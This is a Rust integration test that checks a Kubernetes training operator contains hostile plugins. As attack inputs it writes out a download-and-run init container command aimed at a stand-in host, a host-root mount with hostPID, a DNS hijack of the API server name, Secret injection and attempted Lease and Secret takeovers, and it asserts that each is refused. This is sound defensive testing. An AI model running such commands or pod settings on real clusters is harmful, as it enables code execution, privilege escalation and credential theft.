//! Plugin containment on the real control plane: `trainforge operator` runs
//! with the shipped RBAC (a token of its ServiceAccount, not the admin
//! kubeconfig), the builtin plugins serve, and hostile plugins (the
//! `guests/hostile` fixture, loaded from ConfigMaps through
//! `ClusterTrainerPlugin`s) attack every containment rule:
//!
//! 1. identity (moving the TrainJob to `kube-system`);
//! 2. reads of other namespaces' Secrets;
//! 3. kinds (leases, TrainJobs, runtimes, plugin configuration,
//!    cluster-scoped kinds found by discovery);
//! 4. names: a user's objects, another TrainJob's snapshot and (future)
//!    JobSet, a JobSet squatting a TrainJob's name before it exists, and a
//!    name a loaded plugin's naming rule makes another TrainJob's;
//! 5. pod privileges: baseline, and beyond it by allow-list (Secrets,
//!    control-plane placement, priority, DNS, tokens, added containers);
//! 6. time and memory (sleeping, a component crafted to be slow to compile,
//!    `file:///dev/zero`);
//! 7. declarations (a kind the operator cannot watch, a builtin's name, the
//!    status phase);
//! 8. outputs (huge error text, forged log lines, thousands of objects,
//!    owner-less objects).
//!
//! After each attack: nothing landed outside the attacked TrainJob's
//! namespace and ownership, no foreign object changed, the refusal reason
//! is on the TrainJob's Events or the `ClusterTrainerPlugin`'s status, and
//! the operator is ready and runs a normal TrainJob to `Complete` (its
//! latency is printed as a figure). The attacks run one after the other on
//! one operator, which ends restarted and stopped with SIGTERM.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

use std::time::{Duration, Instant};

use crate::operator_common::*;
use crate::plugin_common::{hostile_declaring, slow_to_compile_component};
use kube::api::{Api, Patch, PatchParams};
use serde_json::{Value, json};
use trainforge_testenv::{Mode, TestEnv};

const TIMEOUT: Duration = Duration::from_secs(120);
const JOBSET: &str = "jobset.x-k8s.io/v1alpha2";
const CTP: &str = "trainforge.dev/v1alpha1";
const OPERATOR_NS: &str = "trainforge-system";
const COMPILE_TIMEOUT_SECONDS: u64 = 20;

struct Fx {
    env: &'static TestEnv,
    client: kube::Client,
    op: Operator,
}

/// Install RBAC, plugins and the runtime; start the operator as its
/// ServiceAccount.
/// This operator's `--namespace-write-mib-per-minute`.
const WRITE_MIB_PER_MINUTE: u64 = 8;

async fn setup() -> Option<Fx> {
    let env = trainforge_testenv::require!(Mode::Full)?;
    let client = env.client().await.unwrap();
    let kubeconfig = operator_service_account(env, &client).await;
    apply_default_plugins(&client).await;
    for d in docs(
        &root().join("api/tests/fixtures/upstream/torch-distributed.yaml"),
        None,
    ) {
        apply(&client, &d).await;
    }
    // As its ServiceAccount, the operator cannot list Pods (the RBAC holds).
    let sa = trainforge_testenv::kubeconfig::client(&kubeconfig)
        .await
        .unwrap();
    let pods = Api::<k8s_openapi::api::core::v1::Pod>::all(sa)
        .list(&Default::default())
        .await;
    assert!(
        matches!(pods, Err(kube::Error::Api(ref s)) if s.code == 403),
        "the operator's token is not the admin's: {pods:?}"
    );
    let timeout = COMPILE_TIMEOUT_SECONDS.to_string();
    let op = Operator::start_as(
        env,
        "operator-containment",
        &[
            "--leader-elect",
            "--lease-namespace",
            OPERATOR_NS,
            "--resync-seconds",
            "30",
            "--plugin-compile-timeout-seconds",
            &timeout,
            "--namespace-write-mib-per-minute",
            &WRITE_MIB_PER_MINUTE.to_string(),
        ],
        &kubeconfig,
    );
    op.wait_ready().await;
    Some(Fx { env, client, op })
}

fn step(text: &str) {
    report(&format!("containment: {text}"));
}

// ------------------------------------------------------------ plugins

/// Store `bytes` in ConfigMap `hostile-<name>` of the operator's namespace
/// and point `ClusterTrainerPlugin` `name` at it.
async fn install(fx: &Fx, name: &str, bytes: &[u8], extra: Value) {
    let cm = format!("hostile-{name}");
    install_cluster_plugin(&fx.client, OPERATOR_NS, &cm, name, bytes, extra).await;
}

async fn uninstall(fx: &Fx, name: &str) {
    delete(&fx.client, CTP, "ClusterTrainerPlugin", None, name).await;
    delete(
        &fx.client,
        "v1",
        "ConfigMap",
        Some(OPERATOR_NS),
        &format!("hostile-{name}"),
    )
    .await;
}

/// `(status, reason, message)` of condition `t` of a `ClusterTrainerPlugin`.
fn ctp_condition(ctp: &Value, t: &str) -> Option<(String, String, String)> {
    let c = condition(ctp, t)?;
    let s = |k: &str| c[k].as_str().unwrap_or_default().to_owned();
    Some((s("status"), s("reason"), s("message")))
}

/// Wait until plugin `name`'s status has `Ready` with `ready` (and its
/// observed generation is current); returns the object.
async fn wait_ctp(fx: &Fx, name: &str, ready: bool) -> Value {
    let want = if ready { "True" } else { "False" };
    eventually(
        &format!("ClusterTrainerPlugin {name} Ready={want}"),
        TIMEOUT,
        || async {
            let o = get(&fx.client, CTP, "ClusterTrainerPlugin", None, name).await?;
            let generation = o["metadata"]["generation"].clone();
            let (status, _, _) = ctp_condition(&o, "Ready")?;
            (status == want && o["status"]["observedGeneration"] == generation).then_some(o)
        },
    )
    .await
}

/// Install a hostile plugin declaring `descriptor`, and wait until it is
/// refused; returns the reason and message of its failing stage.
async fn refused(fx: &Fx, name: &str, descriptor: Value, extra: Value) -> (String, String) {
    install(fx, name, &hostile_declaring(&descriptor), extra).await;
    let o = wait_ctp(fx, name, false).await;
    let (_, reason, message) = ctp_condition(&o, "Degraded").unwrap();
    uninstall(fx, name).await;
    (reason, message)
}

// ------------------------------------------------------------ TrainJobs

/// A normal TrainJob runs to `Complete`: the operator still serves.
/// Returns the time from create to `Complete` (a figure).
async fn normal_trainjob_completes(fx: &Fx, when: &str) -> Duration {
    let ns = fx.env.create_namespace("normal").await.unwrap();
    let start = Instant::now();
    apply(
        &fx.client,
        &trainjob_object(
            &ns,
            "ok",
            "torch-distributed",
            json!({"trainer": {"numNodes": 1}}),
        ),
    )
    .await;
    eventually(
        &format!("normal TrainJob Complete {when}"),
        TIMEOUT,
        || async {
            let tj = trainjob(&fx.client, &ns, "ok").await?;
            is_true(&tj, "Complete").then_some(())
        },
    )
    .await;
    let took = start.elapsed();
    step(&format!(
        "normal TrainJob Complete in {:.2}s {when}",
        took.as_secs_f64()
    ));
    took
}

async fn assert_ready(fx: &Fx) {
    fx.op.wait_ready().await;
}

/// The JobSets and ConfigMaps of `ns` owned by TrainJobs.
async fn owned_objects(fx: &Fx, ns: &str) -> Vec<String> {
    let mut out = Vec::new();
    for (api, kind) in [(JOBSET, "JobSet"), ("v1", "ConfigMap"), ("v1", "Secret")] {
        let list = list_all(fx, api, kind, ns).await;
        for o in list {
            if o["metadata"]["ownerReferences"]
                .as_array()
                .is_some_and(|r| r.iter().any(|r| r["kind"] == "TrainJob"))
            {
                out.push(format!("{kind} {}", o["metadata"]["name"]));
            }
        }
    }
    out
}

/// Create `n` TrainJobs `<prefix>-<i>` in `ns` at once, each asking the
/// hostile plugin `plugin` to spin in `enforce-ml-policy`.
async fn spinning_trainjobs(fx: &Fx, ns: &str, prefix: &str, plugin: &str, n: usize) {
    futures::future::join_all((0..n).map(|i| {
        let tj = attacked(
            ns,
            &format!("{prefix}-{i}"),
            plugin,
            json!({"attack": "loop-enforce"}),
        );
        let client = fx.client.clone();
        async move { apply(&client, &tj).await }
    }))
    .await;
}

async fn list_all(fx: &Fx, api_version: &str, kind: &str, ns: &str) -> Vec<Value> {
    let (group, version) = api_version.split_once('/').unwrap_or(("", api_version));
    let gvk = kube::core::GroupVersionKind::gvk(group, version, kind);
    let (ar, _) = kube::discovery::pinned_kind(&fx.client, &gvk)
        .await
        .unwrap();
    let api: Api<kube::api::DynamicObject> = Api::namespaced_with(fx.client.clone(), ns, &ar);
    api.list(&Default::default())
        .await
        .unwrap()
        .items
        .into_iter()
        .map(|o| serde_json::to_value(o).unwrap())
        .collect()
}

// ---------------------------------------------------------------- test

#[tokio::test]
async fn hostile_plugins_are_contained_on_the_real_control_plane() {
    let Some(fx) = setup().await else { return };
    let baseline = normal_trainjob_completes(&fx, "before any attack").await;
    let kube_system_before = owned_objects(&fx, "kube-system").await;
    let mut during = Vec::new();

    // 1 + 5: identity and pod content, through the builtin JobSet plugin.
    step("1/5 identity and pod privileges");
    install(
        &fx,
        "evil",
        &hostile_declaring(&json!({"name": "evil"})),
        json!({}),
    )
    .await;
    wait_ctp(&fx, "evil", true).await;
    let ns = fx.env.create_namespace("attack-identity").await.unwrap();
    let moves = json!({"set": [{"phase": "enforce-ml-policy", "target": "trainjob",
        "pointer": "/metadata/namespace", "value": "kube-system"}]});
    apply(&fx.client, &attacked(&ns, "mover", "evil", moves)).await;
    let note = wait_warning(
        &fx.client,
        &ns,
        "mover",
        &["evil", "IdentityChanged", "metadata.namespace"],
    )
    .await;
    assert!(note.len() <= 1024, "{note}");
    let pod = "/templateSpec/obj/replicatedJobs/0/template/spec/template/spec";
    let privileged = json!({"set": [
        {"phase": "enforce-pod-spec", "target": "info", "pointer": format!("{pod}/hostPID"), "value": true},
        {"phase": "enforce-pod-spec", "target": "info", "pointer": format!("{pod}/volumes"),
         "value": [{"name": "root", "hostPath": {"path": "/"}}]},
    ]});
    apply(&fx.client, &attacked(&ns, "escalator", "evil", privileged)).await;
    wait_warning(
        &fx.client,
        &ns,
        "escalator",
        &["evil", "PodSecurity", "grants.pod"],
    )
    .await;
    // Beyond baseline, by allow-list: Secrets (and ConfigMaps) of the
    // namespace into the user's pods, pods onto control-plane nodes, a system priority, the
    // API server's name hijacked, a token for another audience, an init
    // container running a download: each refused naming its grant.
    let beyond = [
        (
            "secret-env",
            "envFrom",
            json!([{"secretRef": {"name": "db-credentials"}}]),
            "grants.pod.secretNames",
        ),
        (
            "gpu-hoard",
            "containers/0/resources",
            json!({"limits": {"nvidia.com/gpu": 64}}),
            "grants.pod.resources",
        ),
        (
            "config-volume",
            "volumes",
            json!([{"name": "c", "configMap": {"name": "other-team-settings"}}]),
            "grants.pod.configMapNames",
        ),
        (
            "control-plane",
            "tolerations",
            json!([{"operator": "Exists"}]),
            "grants.pod.nodePlacement",
        ),
        (
            "node-critical",
            "priorityClassName",
            json!("system-node-critical"),
            "grants.pod.priorityClassNames",
        ),
        (
            "dns-hijack",
            "hostAliases",
            json!([{"ip": "6.6.6.6", "hostnames": ["kubernetes.default.svc"]}]),
            "grants.pod.dns",
        ),
        (
            "vault-token",
            "volumes",
            json!([{"name": "t", "projected": {"sources": [{"serviceAccountToken": {"audience": "vault", "path": "t"}}]}}]),
            "grants.pod.serviceAccountTokens",
        ),
        (
            "downloader",
            "initContainers",
            json!([{"name": "fetch", "image": "pytorch/pytorch:2.13.0-cuda13.0-cudnn9-runtime", "command": ["sh", "-c", "wget -O- http://evil.example/x | sh"]}]),
            "grants.pod.containers",
        ),
    ];
    for (name, field, value, _) in &beyond {
        let pointer = if *field == "envFrom" {
            format!("{pod}/containers/0/envFrom")
        } else {
            format!("{pod}/{field}")
        };
        let attack = json!({"set": [{"phase": "enforce-pod-spec", "target": "info",
            "pointer": pointer, "value": value}]});
        apply(&fx.client, &attacked(&ns, name, "evil", attack)).await;
    }
    for (name, _, _, grant) in &beyond {
        wait_warning(&fx.client, &ns, name, &["evil", "PodSecurity", grant]).await;
    }
    during.push(normal_trainjob_completes(&fx, "during the identity attack").await);
    for name in ["mover", "escalator"]
        .into_iter()
        .chain(beyond.iter().map(|b| b.0))
    {
        assert!(
            get(&fx.client, JOBSET, "JobSet", Some(&ns), name)
                .await
                .is_none(),
            "no JobSet for {name}"
        );
        assert!(
            get(&fx.client, JOBSET, "JobSet", Some("kube-system"), name)
                .await
                .is_none(),
            "nothing in kube-system for {name}"
        );
    }
    assert_eq!(owned_objects(&fx, "kube-system").await, kube_system_before);

    // 2: reads stay in the TrainJob's namespace, Secrets only when granted.
    step("2 reads");
    let secrets: Api<k8s_openapi::api::core::v1::Secret> =
        Api::namespaced(fx.client.clone(), "kube-system");
    secrets
        .patch(
            "crown-jewels",
            &PatchParams::apply("containment-test"),
            &Patch::Apply(json!({"apiVersion": "v1", "kind": "Secret",
                "metadata": {"name": "crown-jewels"}, "stringData": {"token": "TOP-SECRET"}})),
        )
        .await
        .unwrap();
    let reader =
        json!({"name": "reader", "reads": [["v1", "Secret"]], "emits": [["v1", "ConfigMap"]]});
    let (reason, message) = refused(
        &fx,
        "reader-ungranted",
        json!({"name": "reader", "reads": [["v1", "Secret"]]}),
        json!({}),
    )
    .await;
    assert_eq!(reason, "ForbiddenKind", "{message}");
    install(
        &fx,
        "reader",
        &hostile_declaring(&reader),
        json!({"allowedReads": [{"apiVersion": "v1", "kind": "Secret"}]}),
    )
    .await;
    wait_ctp(&fx, "reader", true).await;
    let ns = fx.env.create_namespace("attack-reads").await.unwrap();
    let steal = json!({"read": {"apiVersion": "v1", "kind": "Secret", "namespace": "kube-system", "name": "crown-jewels"}});
    apply(&fx.client, &attacked(&ns, "thief", "reader", steal)).await;
    let result = eventually("the read result", TIMEOUT, || async {
        get(
            &fx.client,
            "v1",
            "ConfigMap",
            Some(&ns),
            "thief-read-result",
        )
        .await
    })
    .await;
    let r = result["data"]["result"].as_str().unwrap();
    assert!(r.starts_with("denied") && r.contains("namespace"), "{r}");
    assert!(
        !r.contains("TOP-SECRET") && !r.contains("VE9QLVNFQ1JFVA"),
        "{r}"
    );
    uninstall(&fx, "reader").await;

    // 3: kinds by allow-list and discovery, never the operator's own.
    step("3 kinds");
    for (api, kind) in [
        ("coordination.k8s.io/v1", "Lease"),
        ("trainer.kubeflow.org/v1alpha1", "TrainJob"),
        ("trainer.kubeflow.org/v1alpha1", "TrainingRuntime"),
        ("trainforge.dev/v1alpha1", "ClusterTrainerPlugin"),
        ("rbac.authorization.k8s.io/v1", "ClusterRoleBinding"),
        ("v1", "Pod"),
    ] {
        let (reason, message) = refused(
            &fx,
            "declarer",
            json!({"name": "declarer", "emits": [[api, kind]]}),
            json!({}),
        )
        .await;
        assert_eq!(reason, "ForbiddenKind", "{kind}: {message}");
        assert!(message.contains(kind), "{message}");
    }
    // A cluster-scoped kind no list names: discovery decides.
    apply(&fx.client, &gadget_crd("Cluster", "gadgets", "Gadget")).await;
    apply(&fx.client, &gadget_crd("Namespaced", "widgets", "Widget")).await;
    tokio::time::sleep(Duration::from_secs(2)).await;
    let listed =
        |kind: &str| json!({"allowedKinds": [{"apiVersion": "evil.example.com/v1", "kind": kind}]});
    let (reason, message) = refused(
        &fx,
        "declarer",
        json!({"name": "declarer", "emits": [["evil.example.com/v1", "Gadget"]]}),
        listed("Gadget"),
    )
    .await;
    assert_eq!(reason, "ForbiddenKind", "{message}");
    assert!(message.contains("cluster-scoped"), "{message}");
    // A namespaced kind the operator's ClusterRole does not cover.
    let (reason, message) = refused(
        &fx,
        "declarer",
        json!({"name": "declarer", "emits": [["evil.example.com/v1", "Widget"]]}),
        listed("Widget"),
    )
    .await;
    assert_eq!(reason, "KindNotWatchable", "{message}");
    // A kind off the default allow-list (ConfigMap, Secret, JobSet,
    // PodGroups) is refused unless the administrator lists it: an
    // autoscaler could scale anyone's Deployment.
    let (reason, message) = refused(
        &fx,
        "declarer",
        json!({"name": "declarer", "emits": [["autoscaling/v2", "HorizontalPodAutoscaler"]]}),
        json!({}),
    )
    .await;
    assert_eq!(reason, "ForbiddenKind", "{message}");
    assert!(
        message.contains("by default") && message.contains("allowedKinds"),
        "{message}"
    );
    // Emitting what it did not declare: the operator's Lease, a victim's
    // TrainJob, a runtime, the plugin configuration.
    let ns = fx.env.create_namespace("attack-kinds").await.unwrap();
    let victim = trainjob_object(&ns, "victim", "torch-distributed", json!({"suspend": true}));
    apply(&fx.client, &victim).await;
    let lease_before = get(
        &fx.client,
        "coordination.k8s.io/v1",
        "Lease",
        Some(OPERATOR_NS),
        "trainforge-operator",
    )
    .await
    .unwrap();
    let jobset_ctp_before = get(&fx.client, CTP, "ClusterTrainerPlugin", None, "jobset")
        .await
        .unwrap();
    let runtime_before = get(
        &fx.client,
        "trainer.kubeflow.org/v1alpha1",
        "ClusterTrainingRuntime",
        None,
        "torch-distributed",
    )
    .await
    .unwrap();
    for (i, obj) in [
        json!({"apiVersion": "coordination.k8s.io/v1", "kind": "Lease", "metadata": {"name": "trainforge-operator", "namespace": OPERATOR_NS},
            "spec": {"holderIdentity": "attacker", "leaseDurationSeconds": 3600}}),
        json!({"apiVersion": "trainer.kubeflow.org/v1alpha1", "kind": "TrainJob", "metadata": {"name": "victim"},
            "spec": {"runtimeRef": {"name": "torch-distributed"}, "suspend": false}}),
        json!({"apiVersion": "trainer.kubeflow.org/v1alpha1", "kind": "ClusterTrainingRuntime", "metadata": {"name": "torch-distributed"},
            "spec": {"template": {"spec": {"replicatedJobs": []}}}}),
        json!({"apiVersion": CTP, "kind": "ClusterTrainerPlugin", "metadata": {"name": "jobset"},
            "spec": {"source": {"builtin": "jobset"}, "grants": {"pod": {"privileged": true}}}}),
    ]
    .into_iter()
    .enumerate()
    {
        let name = format!("writer-{i}");
        apply(&fx.client, &attacked(&ns, &name, "evil", json!({"emit": [obj]}))).await;
        wait_warning(&fx.client, &ns, &name, &["evil", "ForbiddenObject"]).await;
    }
    let lease_after = get(
        &fx.client,
        "coordination.k8s.io/v1",
        "Lease",
        Some(OPERATOR_NS),
        "trainforge-operator",
    )
    .await
    .unwrap();
    assert_eq!(
        lease_after["spec"]["holderIdentity"],
        lease_before["spec"]["holderIdentity"]
    );
    let victim_now = trainjob(&fx.client, &ns, "victim").await.unwrap();
    assert_eq!(
        victim_now["spec"]["suspend"], true,
        "the victim stays suspended"
    );
    assert_eq!(
        get(&fx.client, CTP, "ClusterTrainerPlugin", None, "jobset")
            .await
            .unwrap()["spec"],
        jobset_ctp_before["spec"]
    );
    assert_eq!(
        get(
            &fx.client,
            "trainer.kubeflow.org/v1alpha1",
            "ClusterTrainingRuntime",
            None,
            "torch-distributed"
        )
        .await
        .unwrap()["spec"],
        runtime_before["spec"]
    );

    // 4: names: a user's objects, another TrainJob's snapshot and JobSet
    // (one that does not exist yet), and a JobSet squatting a name before
    // its TrainJob exists.
    step("4 name collisions");
    install(
        &fx,
        "squatter",
        &hostile_declaring(&json!({"name": "squatter",
        "emits": [["v1", "ConfigMap"], ["v1", "Secret"], [JOBSET, "JobSet"]]})),
        json!({}),
    )
    .await;
    wait_ctp(&fx, "squatter", true).await;
    let ns = fx.env.create_namespace("attack-names").await.unwrap();
    apply(
        &fx.client,
        &json!({"apiVersion": "v1", "kind": "ConfigMap",
        "metadata": {"name": "precious", "namespace": ns}, "data": {"mine": "yes"}}),
    )
    .await;
    // A user's Secret whose name a TrainJob's plugins may use: refused when
    // applied, not at emission.
    apply(
        &fx.client,
        &json!({"apiVersion": "v1", "kind": "Secret",
        "metadata": {"name": "squat-1-precious", "namespace": ns}, "stringData": {"mine": "yes"}}),
    )
    .await;
    apply(
        &fx.client,
        &trainjob_object(&ns, "victim", "torch-distributed", json!({"suspend": true})),
    )
    .await;
    let snapshot_before = eventually("the victim's snapshot", TIMEOUT, || async {
        get(
            &fx.client,
            "v1",
            "ConfigMap",
            Some(&ns),
            "victim-runtime-snapshot",
        )
        .await
    })
    .await;
    let overwrite = |name: &str, kind: &str| json!({"apiVersion": "v1", "kind": kind, "metadata": {"name": name}, "data": {"mine": "cHduZWQ="}});
    let squatted_jobset = json!({"apiVersion": JOBSET, "kind": "JobSet", "metadata": {"name": "later"},
        "spec": {"replicatedJobs": []}});
    for (i, (obj, words)) in [
        (
            overwrite("precious", "ConfigMap"),
            vec!["squatter", "not derived from the TrainJob's"],
        ),
        (
            overwrite("squat-1-precious", "Secret"),
            vec!["already exists", "not controlled by this TrainJob"],
        ),
        (
            overwrite("victim-runtime-snapshot", "ConfigMap"),
            vec!["squatter", "runtime snapshot of TrainJob \"victim\""],
        ),
        (
            squatted_jobset,
            vec!["squatter", "JobSet of another TrainJob"],
        ),
        // A name the MPI builtin declares (its naming rule) for a TrainJob
        // that does not exist yet.
        (
            overwrite("squat-4-victim-mpi-ssh-auth", "Secret"),
            vec![
                "squatter",
                "plugin mpi's naming rule",
                "TrainJob \"squat-4-victim\"",
            ],
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let name = format!("squat-{i}");
        apply(
            &fx.client,
            &attacked(&ns, &name, "squatter", json!({"emit": [obj]})),
        )
        .await;
        wait_warning(&fx.client, &ns, &name, &words).await;
    }
    assert!(
        get(&fx.client, JOBSET, "JobSet", Some(&ns), "later")
            .await
            .is_none(),
        "no JobSet squats a future TrainJob's name"
    );
    // A JobSet of that name made another way (by hand, controlled by
    // another TrainJob, Completed) is never read as the new TrainJob's:
    // it is Blocked naming the holder, and never Complete.
    let holder = trainjob(&fx.client, &ns, "squat-0").await.unwrap();
    apply(
        &fx.client,
        &json!({"apiVersion": JOBSET, "kind": "JobSet",
            "metadata": {"name": "late", "namespace": ns, "ownerReferences": [{
                "apiVersion": "trainer.kubeflow.org/v1alpha1", "kind": "TrainJob", "name": "squat-0",
                "uid": holder["metadata"]["uid"], "controller": true}]},
            "spec": {"suspend": true, "replicatedJobs": [{"name": "node", "replicas": 1,
                "template": {"spec": {"template": {"spec": {"restartPolicy": "Never",
                    "containers": [{"name": "node", "image": "busybox"}]}}}}}]}}),
    )
    .await;
    let jobsets: Api<kube::api::DynamicObject> = Api::namespaced_with(
        fx.client.clone(),
        &ns,
        &kube::api::ApiResource::from_gvk(&kube::api::GroupVersionKind::gvk(
            "jobset.x-k8s.io",
            "v1alpha2",
            "JobSet",
        )),
    );
    jobsets
        .patch_status(
            "late",
            &PatchParams::default(),
            &Patch::Merge(
                json!({"status": {"conditions": [{"type": "Completed", "status": "True",
                "reason": "AllJobsCompleted", "message": "jobset completed",
                "lastTransitionTime": "2026-01-01T00:00:00Z"}]}}),
            ),
        )
        .await
        .unwrap();
    apply(
        &fx.client,
        &trainjob_object(&ns, "late", "torch-distributed", json!({})),
    )
    .await;
    let late = eventually("the late TrainJob Blocked", TIMEOUT, || async {
        let tj = trainjob(&fx.client, &ns, "late").await?;
        is_true(&tj, "Blocked").then_some(tj)
    })
    .await;
    let blocked = condition(&late, "Blocked").unwrap();
    let message = blocked["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("late") && message.contains("squat-0"),
        "names the JobSet and its controller: {blocked}"
    );
    tokio::time::sleep(Duration::from_secs(3)).await;
    let late = trainjob(&fx.client, &ns, "late").await.unwrap();
    let squatted = get(&fx.client, JOBSET, "JobSet", Some(&ns), "late")
        .await
        .unwrap();
    assert!(
        is_true(&squatted, "Completed"),
        "the squatting JobSet still says Completed: {squatted}"
    );
    assert!(
        !is_true(&late, "Complete") && condition(&late, "Complete").is_none(),
        "never Complete from another TrainJob's JobSet: {late}"
    );
    let precious = get(&fx.client, "v1", "ConfigMap", Some(&ns), "precious")
        .await
        .unwrap();
    assert_eq!(precious["data"], json!({"mine": "yes"}));
    assert!(
        precious["metadata"]["ownerReferences"].is_null(),
        "{precious}"
    );
    let secret = get(&fx.client, "v1", "Secret", Some(&ns), "squat-1-precious")
        .await
        .unwrap();
    assert!(secret["metadata"]["ownerReferences"].is_null(), "{secret}");
    let snapshot_after = get(
        &fx.client,
        "v1",
        "ConfigMap",
        Some(&ns),
        "victim-runtime-snapshot",
    )
    .await
    .unwrap();
    assert_eq!(snapshot_after["data"], snapshot_before["data"]);
    assert_eq!(
        snapshot_after["metadata"]["ownerReferences"],
        snapshot_before["metadata"]["ownerReferences"],
        "not re-owned"
    );
    // Deleting the attacker leaves the victim's snapshot alone.
    delete(
        &fx.client,
        "trainer.kubeflow.org/v1alpha1",
        "TrainJob",
        Some(&ns),
        "squat-2",
    )
    .await;
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert!(
        get(
            &fx.client,
            "v1",
            "ConfigMap",
            Some(&ns),
            "victim-runtime-snapshot"
        )
        .await
        .is_some()
    );
    uninstall(&fx, "squatter").await;

    // 6: time and memory.
    step("6 time and memory");
    let ns = fx.env.create_namespace("attack-time").await.unwrap();
    apply(
        &fx.client,
        &attacked(&ns, "sleeper", "evil", json!({"attack": "sleep"})),
    )
    .await;
    wait_warning(&fx.client, &ns, "sleeper", &["evil", "wait"]).await;
    during.push(normal_trainjob_completes(&fx, "after a sleeping plugin").await);
    // One time budget per pass (2 s across plugins and phases): two plugins
    // that each spin to their own 1.5 s deadline, ignored when they fail,
    // would cost a worker 3 s every reconcile and never fail; the second
    // is cut where the TrainJob's 2 s run out, and the pass fails.
    for name in ["spin-a", "spin-b"] {
        install(
            &fx,
            name,
            &hostile_declaring(&json!({"name": name})),
            json!({"limits": {"timeout": "1500ms"}, "failurePolicy": "Ignore"}),
        )
        .await;
    }
    for name in ["spin-a", "spin-b"] {
        wait_ctp(&fx, name, true).await;
    }
    let mut spender = attacked(&ns, "spender", "spin-a", json!({"attack": "loop-enforce"}));
    spender["metadata"]["annotations"]["hostile.trainforge.dev/spin-b"] =
        json!(json!({"attack": "loop"}).to_string());
    apply(&fx.client, &spender).await;
    wait_warning(
        &fx.client,
        &ns,
        "spender",
        &["spin-b", "BudgetExceeded", "2000 ms"],
    )
    .await;
    during.push(normal_trainjob_completes(&fx, "while a TrainJob spends its pass budget").await);
    // Fair turns: one namespace queues HOGS TrainJobs whose every pass
    // spends 1.5 s (spin-a to its deadline, ignored); first come, first
    // served, another team's TrainJob created just after them would wait
    // for HOGS × 1.5 s ÷ 5 workers (12 s) before its first pass. Turns go
    // round-robin across namespaces: it waits one pass at most.
    const HOGS: usize = 40;
    let hogs = fx.env.create_namespace("hogs").await.unwrap();
    spinning_trainjobs(&fx, &hogs, "hog", "spin-a", HOGS).await;
    let quiet = fx.env.create_namespace("quiet").await.unwrap();
    let started = Instant::now();
    apply(
        &fx.client,
        &trainjob_object(
            &quiet,
            "mine",
            "torch-distributed",
            json!({"trainer": {"numNodes": 1}}),
        ),
    )
    .await;
    eventually("the quiet team's JobSet", TIMEOUT, || async {
        get(&fx.client, JOBSET, "JobSet", Some(&quiet), "mine").await
    })
    .await;
    let waited = started.elapsed();
    let hogs_built = list_all(&fx, JOBSET, "JobSet", &hogs).await.len();
    step(&format!(
        "fair turns: the quiet team's JobSet {:.2}s after its create, {hogs_built} of {HOGS} spinning TrainJobs built by then",
        waited.as_secs_f64()
    ));
    assert!(
        hogs_built < HOGS / 2,
        "the hogs' backlog was there when the quiet team's TrainJob came ({hogs_built} of {HOGS} built)"
    );
    assert!(
        waited < Duration::from_secs(6),
        "the quiet team's TrainJob waited {waited:?} behind another namespace's backlog"
    );
    delete(&fx.client, "v1", "Namespace", None, &hogs).await;
    for name in ["spin-a", "spin-b"] {
        uninstall(&fx, name).await;
    }
    // One plugin's calls at once (`limits.concurrency: 1`): TrainJobs whose
    // passes each spend 1.5 s in it run through it one at a time; a pass
    // that waits longer than the plugin's deadline for the slot fails
    // `Busy` without running, whatever the failure policy, and backs off;
    // every TrainJob is built in the end.
    install(
        &fx,
        "spin-one",
        &hostile_declaring(&json!({"name": "spin-one", "phases": ["enforce-ml-policy"]})),
        json!({"limits": {"timeout": "1500ms", "concurrency": 1}, "failurePolicy": "Ignore"}),
    )
    .await;
    wait_ctp(&fx, "spin-one", true).await;
    const SERIAL: usize = 4;
    let serial = fx.env.create_namespace("serial").await.unwrap();
    let started = Instant::now();
    spinning_trainjobs(&fx, &serial, "one", "spin-one", SERIAL).await;
    let busy = eventually(
        "a Busy Warning on one of the TrainJobs",
        TIMEOUT,
        || async {
            for i in 0..SERIAL {
                let name = format!("one-{i}");
                if let Some(n) = warnings(&fx.client, &serial, &name)
                    .await
                    .into_iter()
                    .find(|n| n.contains("spin-one") && n.contains("Busy"))
                {
                    return Some(n);
                }
            }
            None
        },
    )
    .await;
    assert!(busy.contains("1 calls at once"), "{busy}");
    eventually("every JobSet of the serial namespace", TIMEOUT, || async {
        (list_all(&fx, JOBSET, "JobSet", &serial).await.len() == SERIAL).then_some(())
    })
    .await;
    step(&format!(
        "one call at a time: {SERIAL} TrainJobs spending 1.5 s each in one plugin built in {:.1}s",
        started.elapsed().as_secs_f64()
    ));
    uninstall(&fx, "spin-one").await;
    // Bytes a minute per namespace: a plugin chosen by the TrainJobs' own
    // annotation emits six ConfigMaps of 900 kB for each (every bound of a
    // call and of a TrainJob holds); the namespace writes its 8 MiB of the
    // minute, a TrainJob that has more to write is Blocked naming the
    // budget, and another team's TrainJob completes meanwhile.
    install(
        &fx,
        "filler",
        &hostile_declaring(&json!({"name": "filler"})),
        json!({}),
    )
    .await;
    wait_ctp(&fx, "filler", true).await;
    let writer = fx.env.create_namespace("writer").await.unwrap();
    let started = Instant::now();
    const FILLERS: usize = 4;
    const BLOB: u64 = 900_000;
    for i in 0..FILLERS {
        apply(
            &fx.client,
            &attacked(
                &writer,
                &format!("fill-{i}"),
                "filler",
                json!({"attack": "fill", "objects": 6, "bytes": BLOB}),
            ),
        )
        .await;
    }
    let message = eventually(
        "a TrainJob blocked by its namespace's write budget",
        TIMEOUT,
        || async {
            for i in 0..FILLERS {
                let tj = trainjob(&fx.client, &writer, &format!("fill-{i}")).await?;
                if let Some(c) = condition(&tj, "Blocked")
                    && c["status"] == "True"
                    && c["reason"] == "WriteRateLimited"
                {
                    return c["message"].as_str().map(str::to_owned);
                }
            }
            None
        },
    )
    .await;
    let budget = WRITE_MIB_PER_MINUTE << 20;
    assert!(
        message.contains(&format!("namespace {writer}")) && message.contains(&budget.to_string()),
        "{message}"
    );
    let written: u64 = list_all(&fx, "v1", "ConfigMap", &writer)
        .await
        .iter()
        .filter_map(|c| c["data"]["blob"].as_str())
        .map(|b| b.len() as u64)
        .sum();
    let elapsed = started.elapsed().as_secs_f64();
    // The budget, its refill meanwhile, and at most one object over it
    // per reconcile running at once (5).
    let bound = budget + (budget as f64 * elapsed / 60.0) as u64 + 5 * BLOB;
    step(&format!(
        "write budget: {written} bytes of ConfigMaps in {elapsed:.1}s (bound {bound}), then: {message}"
    ));
    assert!(
        written >= BLOB && written <= bound,
        "{written} bytes written in {elapsed:.1}s, more than {bound}"
    );
